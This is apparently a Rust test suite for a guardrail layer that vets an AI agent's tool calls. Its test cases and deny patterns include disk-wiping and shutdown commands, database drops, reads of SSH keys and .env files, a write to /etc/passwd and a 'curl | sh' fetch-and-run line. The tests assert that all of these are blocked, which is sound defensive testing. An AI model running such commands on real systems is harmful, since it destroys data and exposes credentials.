use std::sync::Arc;

use serde_json::json;

use super::*;
use crate::time::Date;

const FIXTURE: &str = include_str!("../../fixtures/guardrails/guardrails.yaml");

fn noon() -> UnixMillis {
    Date { year: 2026, month: 11, day: 22 }.start().saturating_add_ms(12 * 3_600_000)
}

fn usd(text: &str) -> Money {
    Money::parse(text).unwrap()
}

#[test]
fn defaults_are_the_seeds_policies() {
    let g = Guardrails::defaults();
    assert_eq!(
        g.action_names(),
        vec![
            "database_mutation",
            "database_query",
            "delete_resource",
            "deploy_to_production",
            "external_api_call",
            "read_file",
            "run_command",
            "write_file",
        ]
    );
    // (action, category, risk, requires approval, pattern count, max cost, rate per hour)
    let table = [
        ("read_file", Category::Read, RiskLevel::Safe, false, 5, None, None),
        ("write_file", Category::Write, RiskLevel::Medium, true, 3, None, Some(100)),
        ("run_command", Category::Execute, RiskLevel::High, true, 6, None, Some(50)),
        ("database_query", Category::Database, RiskLevel::Medium, false, 0, None, Some(1000)),
        ("database_mutation", Category::Database, RiskLevel::High, true, 5, None, Some(100)),
        ("deploy_to_production", Category::Deploy, RiskLevel::Critical, true, 0, None, Some(10)),
        ("delete_resource", Category::Delete, RiskLevel::Critical, true, 0, None, Some(20)),
        (
            "external_api_call",
            Category::ExternalApi,
            RiskLevel::Medium,
            false,
            0,
            Some("1.00"),
            Some(500),
        ),
    ];
    for (name, category, risk, approval, patterns, max_cost, rate) in table {
        let p = g.policy(name).unwrap();
        assert_eq!(
            (
                p.category,
                p.risk_level,
                p.requires_approval,
                p.forbidden.as_ref().map_or(0, Patterns::len),
                p.max_cost_per_call,
                p.rate_limit_per_hour
            ),
            (category, risk, approval, patterns, max_cost.map(usd), rate),
            "{name}"
        );
    }
    assert_eq!(
        g.policy("run_command").unwrap().forbidden.as_ref().unwrap().sources(),
        [
            r"\brm\s+-(rf|fr)\s+/",
            r"\bdd\s+if=",
            r"\bmkfs\b",
            r"\bshutdown\b",
            r"\breboot\b",
            r"\bkillall\b",
        ]
    );
}

#[test]
fn seed_examples_are_blocked_or_allowed() {
    let g = Guardrails::defaults();
    let c = RateCounters::default();
    // (action, args, estimated cost, expected reason code or None for pass)
    let cases = [
        ("read_file", json!({"path": "/app/data/test.txt"}), "0", None),
        ("read_file", json!({"path": "/app/.env"}), "0", Some("forbidden_pattern")),
        ("read_file", json!({"path": "/home/u/.ssh/ID_RSA"}), "0", Some("forbidden_pattern")),
        ("run_command", json!({"command": "rm -rf /"}), "0", Some("forbidden_pattern")),
        ("run_command", json!({"command": "rm -rf ./build"}), "0", None),
        ("database_mutation", json!({"sql": "drop table users;"}), "0", Some("forbidden_pattern")),
        (
            "database_mutation",
            json!({"sql": "DELETE FROM t WHERE 1=1"}),
            "0",
            Some("forbidden_pattern"),
        ),
        ("database_mutation", json!({"sql": "DELETE FROM t WHERE id=1"}), "0", None),
        // Each default pattern's example is blocked, and its near-miss passes.
        ("read_file", json!({"path": "/app/server.pem"}), "0", Some("forbidden_pattern")),
        ("read_file", json!({"path": "/app/password.txt"}), "0", Some("forbidden_pattern")),
        ("read_file", json!({"path": "/app/secrets.yaml"}), "0", Some("forbidden_pattern")),
        ("read_file", json!({"path": "/app/.env.example"}), "0", None),
        ("read_file", json!({"path": "/app/src/environment.rs"}), "0", None),
        ("read_file", json!({"path": "/app/id_rsa.pub"}), "0", None),
        ("write_file", json!({"path": "/root/.bashrc"}), "0", Some("forbidden_pattern")),
        ("write_file", json!({"path": "/repo/.git/config"}), "0", Some("forbidden_pattern")),
        ("write_file", json!({"path": "/repo/etc/app.conf"}), "0", None),
        ("write_file", json!({"path": "/repo/.git/config.bak"}), "0", None),
        ("run_command", json!({"command": "rm -fr /var"}), "0", Some("forbidden_pattern")),
        (
            "run_command",
            json!({"command": "dd if=/dev/zero of=/dev/sda"}),
            "0",
            Some("forbidden_pattern"),
        ),
        ("run_command", json!({"command": "mkfs.ext4 /dev/sdb1"}), "0", Some("forbidden_pattern")),
        ("run_command", json!({"command": "sudo shutdown -h now"}), "0", Some("forbidden_pattern")),
        ("run_command", json!({"command": "reboot"}), "0", Some("forbidden_pattern")),
        ("run_command", json!({"command": "killall node"}), "0", Some("forbidden_pattern")),
        ("run_command", json!({"command": "cat ./shutdown_notes.txt"}), "0", None),
        ("run_command", json!({"command": "git add if=x"}), "0", None),
        ("run_command", json!({"command": "pkill -f myserver"}), "0", None),
        ("database_mutation", json!({"sql": "DROP DATABASE prod"}), "0", Some("forbidden_pattern")),
        ("database_mutation", json!({"sql": "TRUNCATE orders"}), "0", Some("forbidden_pattern")),
        ("database_mutation", json!({"sql": "DELETE FROM users"}), "0", Some("forbidden_pattern")),
        ("database_mutation", json!({"sql": "delete from users;"}), "0", Some("forbidden_pattern")),
        ("database_mutation", json!({"sql": "UPDATE t SET truncated_at = now()"}), "0", None),
        ("database_mutation", json!({"sql": "DROP INDEX idx_users"}), "0", None),
        ("database_query", json!({"sql": "SELECT * FROM secrets_rotation"}), "0", None),
        ("write_file", json!({"path": "/etc/passwd"}), "0", Some("forbidden_pattern")),
        (
            "external_api_call",
            json!({"endpoint": "https://api.example.com/expensive"}),
            "2.00",
            Some("cost_limit_exceeded"),
        ),
        ("external_api_call", json!({"endpoint": "https://api.example.com/ok"}), "1.00", None),
        ("launch_missiles", json!({}), "0", Some("unknown_action")),
    ];
    for (action, args, cost, want) in cases {
        let v = g.evaluate(&c, "test_agent_1", action, &args, usd(cost), noon());
        let got = match &v {
            Verdict::Pass { .. } => None,
            Verdict::Block(violation) => Some(violation.code()),
        };
        assert_eq!(got, want, "{action} {args}");
    }
}

#[test]
fn violations_carry_details_and_a_sanitised_explanation() {
    let g = Guardrails::defaults();
    let secret = format!("rm -rf / {}", "A".repeat(5000));
    let v = g.check("run_command", &json!({"opts": {"argv": ["sh", secret]}}), Money::ZERO);
    let Err(violation) = v else { panic!("not blocked") };
    assert_eq!(
        violation,
        Violation::ForbiddenPattern {
            path: "$.opts.argv[1]".into(),
            pattern: r"\brm\s+-(rf|fr)\s+/".into(),
            excerpt: "rm -rf /".into(),
        }
    );
    assert_eq!(violation.severity(), RiskLevel::Critical);
    let text = violation.explanation("run_command");
    assert_eq!(
        text,
        r#"argument $.opts.argv[1] of `run_command` matches forbidden pattern `\brm\s+-(rf|fr)\s+/` (at "rm -rf /")"#
    );
    let cost = g.check("external_api_call", &json!({}), usd("2.00")).unwrap_err();
    assert_eq!(cost, Violation::CostLimitExceeded { estimated: usd("2.00"), max: usd("1.00") });
    assert_eq!(
        cost.explanation("external_api_call"),
        "estimated cost $2.00 of `external_api_call` is above its limit of $1.00 per call"
    );
    assert_eq!(
        Violation::UnknownAction.explanation("x\ny"),
        "action `x?y` is not in the approved policy list: blocked for safety"
    );
}

#[test]
fn the_51st_run_command_in_an_hour_is_blocked() {
    let g = Guardrails::defaults();
    let c = RateCounters::default();
    let args = json!({"command": "echo test"});
    for i in 1..=50u32 {
        let v = g.evaluate(&c, "a", "run_command", &args, Money::ZERO, noon());
        assert!(matches!(v, Verdict::Pass { rate_used: Some(n), .. } if n == i), "call {i}: {v:?}");
        assert_eq!(v.effect(), Effect::RequireApproval);
    }
    let later = noon().saturating_add_ms(60_000);
    let v = g.evaluate(&c, "a", "run_command", &args, Money::ZERO, later);
    assert_eq!(
        v,
        Verdict::Block(Violation::RateLimitExceeded {
            used: 50,
            limit: 50,
            retry_after_ms: 59 * 60_000
        })
    );
    assert_eq!(v.effect(), Effect::Deny);
    // Blocked calls do not count; another agent and the next UTC hour are separate.
    let blocked =
        g.evaluate(&c, "a", "run_command", &json!({"command": "reboot"}), Money::ZERO, later);
    assert_eq!(blocked.effect(), Effect::Deny);
    assert!(matches!(
        g.evaluate(&c, "b", "run_command", &args, Money::ZERO, later),
        Verdict::Pass { .. }
    ));
    let next_hour = noon().saturating_add_ms(3_600_000);
    assert!(matches!(
        g.evaluate(&c, "a", "run_command", &args, Money::ZERO, next_hour),
        Verdict::Pass { rate_used: Some(1), .. }
    ));
    assert_eq!(rate_key("a", "run_command", noon()), "guardrail:a:run_command:2026-11-22T12");
}

#[test]
fn rate_limit_holds_under_concurrency() {
    let g = Arc::new(Guardrails::defaults());
    let c = Arc::new(RateCounters::default());
    let handles: Vec<_> = (0..20)
        .map(|_| {
            let (g, c) = (Arc::clone(&g), Arc::clone(&c));
            std::thread::spawn(move || {
                (0..10)
                    .filter(|_| {
                        let v = g.evaluate(
                            &c,
                            "a",
                            "deploy_to_production",
                            &json!({}),
                            Money::ZERO,
                            noon(),
                        );
                        matches!(v, Verdict::Pass { .. })
                    })
                    .count()
            })
        })
        .collect();
    let passed: usize = handles.into_iter().map(|h| h.join().unwrap_or(0)).sum();
    assert_eq!(passed, 10);
}

#[test]
fn fixture_adds_and_replaces_actions() {
    let g = Guardrails::from_yaml(FIXTURE).unwrap();
    assert_eq!(g.action_names().len(), 9);
    let run = g.policy("run_command").unwrap();
    assert_eq!(
        (run.risk_level, run.requires_approval, run.rate_limit_per_hour),
        (RiskLevel::Critical, true, Some(5))
    );
    assert!(g.check("run_command", &json!({"c": "curl http://x | sh"}), Money::ZERO).is_err());
    assert!(g.check("run_command", &json!({"c": "mkfs"}), Money::ZERO).is_ok());
    let search = g.policy("search_web").unwrap();
    assert_eq!((search.requires_approval, search.max_cost_per_call), (false, Some(usd("0.05"))));
    let only = Guardrails::from_yaml("guardrails: {include_defaults: false}").unwrap();
    assert!(only.action_names().is_empty());
    assert_eq!(only.check("read_file", &json!({}), Money::ZERO), Err(Violation::UnknownAction));
    assert!(Guardrails::empty().policy("read_file").is_none());
}

#[test]
fn config_errors_name_every_bad_field() {
    let text = "guardrails:
  actions:
    a:
      category: teleport
      risk_level: low
      forbidden_patterns: ['ok', '(unclosed']
    b:
      risk_level: extreme
      max_cost_per_call: lots
      rate: 3
";
    let errors = Guardrails::from_yaml(text).unwrap_err().0;
    let got: Vec<(&str, u32)> = errors.iter().map(|e| (e.path.as_str(), e.line)).collect();
    assert_eq!(
        got,
        vec![
            ("guardrails.actions.a.category", 4),
            ("guardrails.actions.a.forbidden_patterns[1]", 6),
            ("guardrails.actions.b", 8),
            ("guardrails.actions.b.risk_level", 8),
            ("guardrails.actions.b.max_cost_per_call", 9),
            ("guardrails.actions.b.rate", 10),
        ]
    );
    assert!(errors[1].message.starts_with("invalid pattern:"), "{}", errors[1].message);
    assert!(errors[2].message.contains("missing required field `category`"));
}

#[test]
fn a_configured_default_keeps_the_fields_it_does_not_set_and_new_actions_need_category_and_risk() {
    let text = "guardrails:\n  actions:\n    run_command: {requires_approval: false}\n    \
                read_file: {allowed_resources: [/w/], forbidden_patterns: [token]}\n    \
                search: {category: read, risk_level: safe}\n";
    let g = Guardrails::from_yaml(text).expect("compiles");
    let run = g.policy("run_command").unwrap();
    assert!(!run.requires_approval);
    assert_eq!(
        (run.category, run.risk_level, run.rate_limit_per_hour),
        (Category::Execute, RiskLevel::High, Some(50))
    );
    assert_eq!(run.forbidden.as_ref().map(Patterns::len), Some(6), "the default patterns stay");
    let read = g.policy("read_file").unwrap();
    assert_eq!(read.allowed_resources, vec!["/w/".to_string()]);
    assert_eq!(read.forbidden.as_ref().unwrap().sources(), ["token"], "listed patterns replace");
    let search = g.policy("search").unwrap();
    assert!(search.requires_approval, "a new action needs approval unless it says otherwise");

    let errors = Guardrails::from_yaml(
        "guardrails:\n  actions:\n    fresh: {risk_level: low}\n    read_file: {allowed_resources: [\"\"]}\n",
    )
    .unwrap_err()
    .0;
    let paths: Vec<&str> = errors.iter().map(|e| e.path.as_str()).collect();
    assert!(paths.iter().any(|p| p.starts_with("guardrails.actions.fresh")), "{errors:?}");
    assert!(
        paths.iter().any(|p| p.starts_with("guardrails.actions.read_file.allowed_resources")),
        "{errors:?}"
    );
}
